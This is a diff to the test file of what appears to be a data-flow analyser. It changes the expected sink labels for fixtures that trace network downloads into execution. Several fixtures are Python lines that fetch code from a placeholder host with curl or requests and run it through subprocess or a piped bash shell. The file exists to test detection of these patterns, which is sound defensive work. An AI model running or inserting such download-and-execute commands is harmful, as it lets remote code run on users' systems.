@@ -90,7 +90,7 @@ describe("data is followed from where it comes to where it goes", () => {
       ],
       [
         "network http://load.test/x.sh -> write /tmp/x.sh",
-        "network http://load.test/x.sh -> execute:file /tmp/x.sh",
+        "network http://load.test/x.sh -> execute:file bash",
       ],
     ],
     [
@@ -100,7 +100,7 @@ describe("data is followed from where it comes to where it goes", () => {
         'os.system("curl -so /tmp/u http://load.test/u")',
         'subprocess.Popen("/tmp/u")',
       ],
-      ["network http://load.test/u -> execute:file /tmp/u"],
+      ["network http://load.test/u -> execute:file u"],
     ],
     [
       "an archive of a folder",
@@ -123,7 +123,7 @@ describe("data is followed from where it comes to where it goes", () => {
         'p = subprocess.Popen(["bash"], stdin=subprocess.PIPE)',
         'p.communicate(requests.get("http://load.test/x").content)',
       ],
-      ["network http://load.test/x -> execute:shell child.shell.communicate"],
+      ["network http://load.test/x -> execute:shell bash"],
     ],
     [
       "an object built from a page",
